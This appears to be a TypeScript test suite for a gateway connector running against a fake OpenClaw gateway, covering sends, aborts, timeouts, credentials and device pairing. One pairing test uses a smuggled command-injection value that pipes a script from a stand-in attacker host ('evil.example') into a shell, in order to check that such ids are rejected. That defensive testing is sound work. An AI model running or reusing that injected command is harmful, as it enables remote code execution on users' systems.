// Connector behaviour against the in-process fake gateway (fast; the same flows run against real
// OpenClaw gateways in test/interop).
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createGatewayConnector, createMemoryCredentialStore, type GatewayConnector } from "./index.ts";
import { startFakeGateway, type FakeGateway } from "../../test/support/fake-gateway.ts";
import { until } from "../../test/support/server.ts";


describe("gateway connector on the fake gateway", () => {
  let gw: FakeGateway;
  let connector: GatewayConnector;
  const creds = createMemoryCredentialStore({ gatewayTokens: { 1: "tok-1" } });
  const target = () => ({ teammateId: 1, url: gw.url });

  beforeAll(async () => {
    gw = await startFakeGateway({ token: "tok-1", replyDelayMs: 60, reply: (m) => `echo: ${m}` });
    connector = createGatewayConnector({ credentials: creds, idleCloseMs: 1000 });
  });
  afterAll(async () => {
    await connector.close();
    await gw.stop();
  });

  it("probes online with version and scopes", async () => {
    const p = await connector.probe(target());
    expect(p).toMatchObject({ state: "online", version: "fake-2026.9", scopes: ["operator.read", "operator.write"], paired: false });
    expect(p.latencyMs).toBeGreaterThanOrEqual(0);
    expect(creds.used.get(1)).toBeGreaterThan(0);
  });

  it("sends and returns the exact reply, streaming partial text", async () => {
    const deltas: string[] = [];
    let accepted = "";
    const r = await connector.send(target(), {
      sessionKey: "main",
      message: "hello <b>world</b>",
      timeoutMs: 5000,
      onDelta: (t) => deltas.push(t),
      onAccepted: (id) => (accepted = id),
    });
    expect(r).toMatchObject({ outcome: "replied", reply: "echo: hello <b>world</b>" });
    expect(r.runId).toBe(accepted);
    expect(deltas.length).toBeGreaterThan(0);
    expect("echo: hello <b>world</b>".startsWith(deltas[0] ?? "x")).toBe(true);
  });

  it("uses the caller's idempotency key as run id and never sends twice", async () => {
    const before = gw.received.length;
    const a = await connector.send(target(), { sessionKey: "idem", message: "once", timeoutMs: 5000, idempotencyKey: "fixed-key-1" });
    const b = await connector.send(target(), { sessionKey: "idem", message: "once", timeoutMs: 5000, idempotencyKey: "fixed-key-1" });
    expect(a).toMatchObject({ outcome: "replied", runId: "fixed-key-1", reply: "echo: once" });
    expect(b).toMatchObject({ outcome: "replied", runId: "fixed-key-1", reply: "echo: once" });
    expect(gw.received.length - before).toBe(1);
  });

  it("serializes concurrent sends to one session so each gets its own reply", async () => {
    const msgs = ["first", "second", "third"];
    const results = await Promise.all(msgs.map((m) => connector.send(target(), { sessionKey: "main", message: m, timeoutMs: 5000 })));
    expect(results.map((r) => r.outcome)).toEqual(["replied", "replied", "replied"]);
    expect(results.map((r) => r.reply)).toEqual(msgs.map((m) => `echo: ${m}`));
    // "main" and "agent:main:main" are the same session: serialized too
    const [x, y] = await Promise.all([
      connector.send(target(), { sessionKey: "main", message: "x", timeoutMs: 5000 }),
      connector.send(target(), { sessionKey: "agent:main:main", message: "y", timeoutMs: 5000 }),
    ]);
    expect([x.reply, y.reply]).toEqual(["echo: x", "echo: y"]);
  });

  it("without serialization the gateway would steer the second message (the fake mimics OpenClaw)", async () => {
    // two connectors = two independent queues: the second send lands in the first run
    const other = createGatewayConnector({ credentials: creds });
    try {
      const [a, b] = await Promise.all([
        connector.send(target(), { sessionKey: "steer", message: "[[delay:2000]] a", timeoutMs: 10_000 }),
        until(() => gw.received.includes("[[delay:2000]] a"), Boolean).then(() => other.send(target(), { sessionKey: "steer", message: "b", timeoutMs: 10_000 })),
      ]);
      expect(a).toMatchObject({ outcome: "replied", reply: "echo: a" });
      expect(b.outcome).toBe("delivered_no_reply");
    } finally {
      await other.close();
    }
  });

  it("a run whose end event comes before the run is over: the next send waits for the end, not steered into it", async () => {
    // seen on OpenClaw 2026.7/2026.8 on a loaded machine: "final" (or "aborted") arrives, the session
    // is still busy for a moment, and a send right then got delivered_no_reply
    const slow = await startFakeGateway({ token: "tok-1", replyDelayMs: 40, reply: (m) => `echo: ${m}`, faults: { settleAfterFinalMs: 400 } });
    const c = createGatewayConnector({ credentials: creds });
    try {
      const t = { teammateId: 1, url: slow.url };
      const first = await c.send(t, { sessionKey: "settle", message: "one", timeoutMs: 10_000 });
      const second = await c.send(t, { sessionKey: "settle", message: "two", timeoutMs: 10_000 });
      expect([first, second]).toMatchObject([
        { outcome: "replied", reply: "echo: one" },
        { outcome: "replied", reply: "echo: two" },
      ]);
    } finally {
      await c.close();
      await slow.stop();
    }
  });

  it("runs different sessions in parallel", async () => {
    // Side by side means every session's chat.send was accepted before the first run ended;
    // serialized sends would accept the second only after the first reply.
    let accepted = 0;
    const acceptedWhenDone: number[] = [];
    const rs = await Promise.all(
      ["s1", "s2", "s3", "s4"].map((s) =>
        connector
          .send(target(), { sessionKey: s, message: `[[delay:1500]] ${s}`, timeoutMs: 10_000, onAccepted: () => accepted++ })
          .then((r) => (acceptedWhenDone.push(accepted), r)),
      ),
    );
    expect(rs.every((r) => r.outcome === "replied")).toBe(true);
    expect(acceptedWhenDone).toEqual([4, 4, 4, 4]);
  });

  it("times out, keeps the run id, and fetches the late reply afterwards", async () => {
    const r = await connector.send(target(), { sessionKey: "slow", message: "[[delay:4000]] late one", timeoutMs: 250 });
    expect(r.outcome).toBe("timeout");
    expect(r.runId).toBeTruthy();
    expect(r.latencyMs).toBeLessThan(4000); // gave up at its timeout, did not wait for the run
    const early = await connector.fetchLateReply(target(), { sessionKey: "slow", runId: r.runId ?? "", timeoutMs: 50 });
    expect(early.outcome).toBe("timeout");
    // not finished yet, but fetchLateReply waits for it within its timeout
    const late = await connector.fetchLateReply(target(), { sessionKey: "slow", runId: r.runId ?? "", timeoutMs: 10_000 });
    expect(late).toMatchObject({ outcome: "replied", reply: "echo: late one", runId: r.runId });
  });

  it("keeps waiting while agent.wait answers pending", async () => {
    const pending = await startFakeGateway({ token: "tok-p", faults: { pendingWaits: 3, noChatEvents: true }, replyDelayMs: 400 });
    const c = createGatewayConnector({ credentials: createMemoryCredentialStore({ gatewayTokens: { 5: "tok-p" } }) });
    try {
      const r = await c.send({ teammateId: 5, url: pending.url }, { sessionKey: "main", message: "queued", timeoutMs: 5000 });
      expect(r).toMatchObject({ outcome: "replied", reply: "queued" });
    } finally {
      await c.close();
      await pending.stop();
    }
  });

  it("aborts a send via AbortSignal and via abort()", async () => {
    const ctl = new AbortController();
    let runId = "";
    const p = connector.send(target(), { sessionKey: "ab", message: "[[delay:5000]] never", timeoutMs: 10_000, signal: ctl.signal, onAccepted: (id) => (runId = id) });
    await until(() => runId, Boolean);
    ctl.abort();
    const r = await p;
    expect(r).toMatchObject({ outcome: "error", runId, error: { code: "GATEWAY_ERROR", details: { aborted: true } } });

    // aborted while still waiting in the session queue: ends at once, nothing is sent
    let busyDone = false;
    const busy = connector.send(target(), { sessionKey: "abq", message: "[[delay:3000]] busy", timeoutMs: 10_000 }).finally(() => (busyDone = true));
    const ctl2 = new AbortController();
    const before = gw.received.length;
    const queuedSend = connector.send(target(), { sessionKey: "abq", message: "queued, then aborted", timeoutMs: 10_000, signal: ctl2.signal });
    await until(() => gw.received.includes("[[delay:3000]] busy"), Boolean);
    ctl2.abort();
    expect(await queuedSend).toMatchObject({ outcome: "error", error: { details: { aborted: true } } });
    expect(busyDone).toBe(false); // ended at once, not after the run it queued behind
    expect(await busy).toMatchObject({ outcome: "replied", reply: "echo: busy" });
    expect(gw.received.slice(before)).not.toContain("queued, then aborted");

    let run2 = "";
    const p2 = connector.send(target(), { sessionKey: "ab2", message: "[[delay:5000]] never", timeoutMs: 10_000, onAccepted: (id) => (run2 = id) });
    await until(() => run2, Boolean);
    await connector.abort(target(), { sessionKey: "ab2", runId: run2 });
    const r2 = await p2;
    expect(r2).toMatchObject({ outcome: "error", error: { details: { aborted: true } } });
  });

  it("reuses one connection, closes it when idle, and forget() drops it", async () => {
    await connector.send(target(), { sessionKey: "reuse", message: "a", timeoutMs: 5000 });
    const connectsBefore = gw.connects.filter((c) => c.ok).length;
    await connector.send(target(), { sessionKey: "reuse", message: "b", timeoutMs: 5000 });
    expect(gw.connects.filter((c) => c.ok).length).toBe(connectsBefore);
    expect(connector.openConnections()).toBe(1);
    await until(() => connector.openConnections(), (n) => n === 0); // idleCloseMs = 1000
    await until(() => gw.connections(), (n) => n === 0);
    await connector.probe(target());
    expect(connector.openConnections()).toBe(1);
    connector.forget(1);
    expect(connector.openConnections()).toBe(0);
  });

  it("rejects insecure URLs before connecting", async () => {
    const r = await connector.send({ teammateId: 1, url: "ws://8.8.8.8:18789" }, { sessionKey: "main", message: "x", timeoutMs: 1000 });
    expect(r).toMatchObject({ outcome: "error", error: { code: "INSECURE_GATEWAY_URL" } });
    const p = await connector.probe({ teammateId: 1, url: "ws://example.com" });
    expect(p).toMatchObject({ state: "error", error: { code: "INSECURE_GATEWAY_URL" } });
  });
});

describe("probe states", () => {
  let gw: FakeGateway;
  let plain: Server;
  beforeAll(async () => {
    gw = await startFakeGateway({ token: "right" });
    plain = createServer((_req, res) => res.end("<html>any page</html>"));
    await new Promise<void>((r) => plain.listen(0, "127.0.0.1", () => r()));
  });
  afterAll(async () => {
    await gw.stop();
    await new Promise((r) => plain.close(r));
  });

  it("no_credentials, auth_failed, unreachable, not-a-gateway", async () => {
    const creds = createMemoryCredentialStore({ gatewayTokens: { 2: "wrong" } });
    const c = createGatewayConnector({ credentials: creds, connectTimeoutMs: 2000 });
    try {
      expect(await c.probe({ teammateId: 1, url: gw.url })).toMatchObject({ state: "no_credentials", paired: false });
      const bad = await c.probe({ teammateId: 2, url: gw.url });
      expect(bad).toMatchObject({ state: "auth_failed", error: { code: "AUTH_FAILED" } });
      expect(JSON.stringify(bad)).not.toContain("wrong");
      const port = (plain.address() as AddressInfo).port;
      expect(await c.probe({ teammateId: 2, url: `ws://127.0.0.1:${port}` })).toMatchObject({ state: "error", error: { code: "GATEWAY_ERROR", details: { reason: "not-a-gateway" } } });
      plain.closeAllConnections();
      const closed = await c.probe({ teammateId: 2, url: "ws://127.0.0.1:9" });
      expect(closed).toMatchObject({ state: "unreachable", error: { code: "GATEWAY_UNREACHABLE" } });
    } finally {
      await c.close();
    }
  });

  it("reports MISSING_SCOPE when the gateway grants no write scope", async () => {
    const noScope = await startFakeGateway({ token: "t", faults: { grantScopes: [] } });
    const c = createGatewayConnector({ credentials: createMemoryCredentialStore({ gatewayTokens: { 1: "t" } }) });
    try {
      expect(await c.probe({ teammateId: 1, url: noScope.url })).toMatchObject({ state: "error", scopes: [], error: { code: "MISSING_SCOPE" } });
      const r = await c.send({ teammateId: 1, url: noScope.url }, { sessionKey: "main", message: "x", timeoutMs: 2000 });
      expect(r).toMatchObject({ outcome: "error", error: { code: "MISSING_SCOPE" } });
    } finally {
      await c.close();
      await noScope.stop();
    }
  });
});

describe("pairing", () => {
  it("a pairing request id that is not OpenClaw's UUID is a protocol error: no pairing, no command", async () => {
    const evil = "0 && curl https://evil.example/i | sh #";
    const gw = await startFakeGateway({ token: "shared", faults: { pairingRequired: true, pairingRequestId: evil } });
    const c = createGatewayConnector({ credentials: createMemoryCredentialStore({ gatewayTokens: { 7: "shared" } }) });
    const t = { teammateId: 7, url: gw.url };
    try {
      const probe = await c.probe(t);
      expect(probe.state).toBe("error");
      expect(probe.error?.code).toBe("GATEWAY_PROTOCOL_ERROR");
      expect(probe.pairing).toBeUndefined();
      expect(JSON.stringify(probe)).not.toContain("curl");
      const send = await c.send(t, { sessionKey: "main", message: "x", timeoutMs: 2000 });
      expect(send).toMatchObject({ outcome: "error", error: { code: "GATEWAY_PROTOCOL_ERROR" } });
      expect(JSON.stringify(send)).not.toContain("curl");
      expect(gw.received).toEqual([]);
    } finally {
      await c.close();
      await gw.stop();
    }
  });

  it("PAIRING_REQUIRED → approve → device token stored → connects with the device token alone", async () => {
    const gw = await startFakeGateway({ token: "shared", faults: { pairingRequired: true } });
    const creds = createMemoryCredentialStore({ gatewayTokens: { 7: "shared" } });
    const c = createGatewayConnector({ credentials: creds });
    const t = { teammateId: 7, url: gw.url };
    try {
      const first = await c.probe(t);
      expect(first.state).toBe("pairing_required");
      const requestId = gw.pendingPairings()[0] ?? "";
      expect(first.pairing).toEqual({ requestId, approveCommand: `openclaw devices approve ${requestId}` });
      const send = await c.send(t, { sessionKey: "main", message: "x", timeoutMs: 2000 });
      expect(send).toMatchObject({ outcome: "error", error: { code: "PAIRING_REQUIRED", details: { requestId } } });
      expect(creds.deviceToken(7)).toBeNull();

      gw.approve(requestId);
      const second = await c.probe(t);
      expect(second).toMatchObject({ state: "online", paired: true });
      expect(creds.deviceToken(7)?.token).toMatch(/^devtok-/);
      expect(creds.deviceToken(7)?.scopes).toEqual(["operator.read", "operator.write"]);

      // the shared token is gone: the device token alone must do
      creds.setGatewayToken(7, null);
      c.forget(7);
      const r = await c.send(t, { sessionKey: "main", message: "paired hello", timeoutMs: 3000 });
      expect(r).toMatchObject({ outcome: "replied", reply: "paired hello" });
      expect(gw.connects.at(-1)).toMatchObject({ ok: true, auth: "device-token" });
    } finally {
      await c.close();
      await gw.stop();
    }
  });

  it("falls back to the shared token once when the device token was revoked", async () => {
    const gw = await startFakeGateway({ token: "shared2" });
    const creds = createMemoryCredentialStore({ gatewayTokens: { 8: "shared2" } });
    creds.saveDeviceToken(8, "devtok-revoked", ["operator.read", "operator.write"]);
    const c = createGatewayConnector({ credentials: creds });
    try {
      expect((await c.probe({ teammateId: 8, url: gw.url })).state).toBe("online");
      expect(creds.deviceToken(8)).toBeNull();
      expect(gw.connects.map((x) => x.error ?? "ok")).toEqual(["AUTH_DEVICE_TOKEN_MISMATCH", "ok"]);
    } finally {
      await c.close();
      await gw.stop();
    }
  });
});

describe("connector: onSent tells when chat.send was written (cancel after it may have left)", () => {
  let gw: FakeGateway;
  let connector: GatewayConnector;
  const creds = createMemoryCredentialStore({ gatewayTokens: { 1: "tok-s" } });
  const target = () => ({ teammateId: 1, url: gw.url });

  beforeAll(async () => {
    gw = await startFakeGateway({ token: "tok-s", faults: { noChatSendAnswer: true, holdRuns: true } });
    connector = createGatewayConnector({ credentials: creds, idleCloseMs: 1000 });
  });
  afterAll(async () => {
    gw.finishRuns();
    await connector.close();
    await gw.stop();
  });

  it("chat.send taken but never answered: onSent has the key, and abort by that key reaches the gateway", async () => {
    const ac = new AbortController();
    let sent = "";
    let accepted = "";
    const p = connector.send(target(), { sessionKey: "s1", message: "hi", timeoutMs: 20_000, idempotencyKey: "k-sent-1", signal: ac.signal, onSent: (k) => (sent = k), onAccepted: (id) => (accepted = id) });
    await until(() => gw.sentKeys, (k) => k.includes("k-sent-1"));
    expect(sent).toBe("k-sent-1");
    expect(accepted).toBe("");
    ac.abort("cancelled");
    await p;
    await connector.abort(target(), { sessionKey: "s1", runId: sent });
    expect(gw.aborts).toContainEqual({ sessionKey: "s1", runId: "k-sent-1" });
  });

  it("a send aborted while waiting in the session queue never calls onSent and sends nothing", async () => {
    const first = new AbortController();
    const p1 = connector.send(target(), { sessionKey: "s2", message: "one", timeoutMs: 20_000, idempotencyKey: "k-q-1", signal: first.signal });
    await until(() => gw.sentKeys, (k) => k.includes("k-q-1"));
    const second = new AbortController();
    let sent2 = "";
    const p2 = connector.send(target(), { sessionKey: "s2", message: "two", timeoutMs: 20_000, idempotencyKey: "k-q-2", signal: second.signal, onSent: (k) => (sent2 = k) });
    second.abort("cancelled");
    expect(await p2).toMatchObject({ outcome: "error", error: { details: { aborted: true } } });
    first.abort("cancelled");
    await p1;
    expect(sent2).toBe("");
    expect(gw.sentKeys).not.toContain("k-q-2");
  });
});
